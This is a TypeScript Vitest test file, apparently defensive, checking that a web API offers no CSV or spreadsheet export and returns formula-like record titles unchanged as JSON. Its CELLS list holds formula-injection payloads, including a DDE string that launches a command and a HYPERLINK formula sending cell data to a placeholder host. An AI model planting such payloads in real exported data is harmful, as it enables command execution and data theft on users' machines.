import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { json } from '../engine/src/app/leaks/caller.js';
import { SPECIMEN } from '../engine/src/app/leaks/canary-model.js';
import { openCanarySystem, type CanarySystem } from './support/canary-system.js';

let system: CanarySystem;
beforeAll(async () => {
  system = await openCanarySystem();
}, 300_000);
afterAll(() => system.close());

/** What a spreadsheet opens. */
const OF_SPREADSHEETS = /csv|tab-separated|spreadsheet|ms-?excel|opendocument|xlsx?\b/i;
/** Text that a spreadsheet would evaluate. */
const CELLS = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '＝1+1', '=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0"];

describe('E-09: a spreadsheet', () => {
  it('is given out by no address: when one does, its cells have to be looked at here', async () => {
    const described = json<{ paths: Record<string, Record<string, unknown>> }>(await system.call('admin', 'GET', '/openapi.json'));
    const operations = Object.entries(described.paths).flatMap(([path, methods]) =>
      Object.entries(methods).map(([method, operation]) => ({ name: `${method} ${path}`, types: typesIn(operation) })),
    );
    expect(operations.length).toBeGreaterThan(100);
    expect(operations.flatMap(({ types }) => types)).toContain('application/json');
    expect(operations.filter(({ name, types }) => OF_SPREADSHEETS.test(name) || types.some((type) => OF_SPREADSHEETS.test(type)))).toEqual(
      [],
    );
  });

  it('is not made of a list because somebody asks for one', async () => {
    for (const [path, headers] of [
      ['', { Accept: 'text/csv' }],
      ['', { Accept: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' }],
      ['?format=csv', {}],
      ['/export', {}],
      ['/export.csv', {}],
      ['.csv', {}],
    ] as const) {
      const reply = await system.call('admin', 'GET', `/records/${SPECIMEN}${path}`, { headers });
      expect([path, reply.headers.get('content-type')]).toEqual([path, expect.stringMatching(/^application\/(problem\+)?json/)]);
    }
  });

  it('can be made by no package that the engine depends on', async () => {
    const { dependencies } = JSON.parse(await readFile('engine/package.json', 'utf8')) as { dependencies: Record<string, string> };
    expect(Object.keys(dependencies).filter((name) => /csv|xls|excel|sheet|papaparse/i.test(name))).toEqual([]);
  });

  it('does not change what JSON says: a value comes back as it was', async () => {
    for (const title of CELLS) {
      const made = await system.call('admin', 'POST', `/records/${SPECIMEN}`, { body: { title } });
      expect([made.status, json(made)['title']]).toEqual([201, title.trim()]);
    }
  });
});

/** Names of media types anywhere below: the keys of every `content`. */
function typesIn(value: unknown): string[] {
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) => [
    ...(name === 'content' && typeof inner === 'object' && inner !== null ? Object.keys(inner) : []),
    ...typesIn(inner),
  ]);
}
